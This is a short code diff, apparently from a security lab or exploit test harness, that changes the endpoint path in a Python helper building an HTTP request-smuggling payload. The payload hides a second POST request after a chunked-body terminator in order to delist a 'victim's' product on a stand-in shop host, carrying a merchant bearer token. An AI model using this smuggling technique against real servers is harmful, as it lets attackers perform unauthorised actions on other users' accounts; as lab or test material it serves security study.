@@ -103,7 +103,7 @@ def _hidden(shop: Shop, at: str) -> bytes:
     """Delists the victim's product."""
     token = shop.bearer("merchant")["Authorization"] if at == GATEWAY else "Bearer x"
     return (
-        f"0\r\n\r\nPOST /products/{shop.product}/delist-product HTTP/1.1\r\nHost: shop.example\r\n"
+        f"0\r\n\r\nPOST /products/{shop.product}/delist HTTP/1.1\r\nHost: shop.example\r\n"
         f"Authorization: {token}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
     ).encode()
 
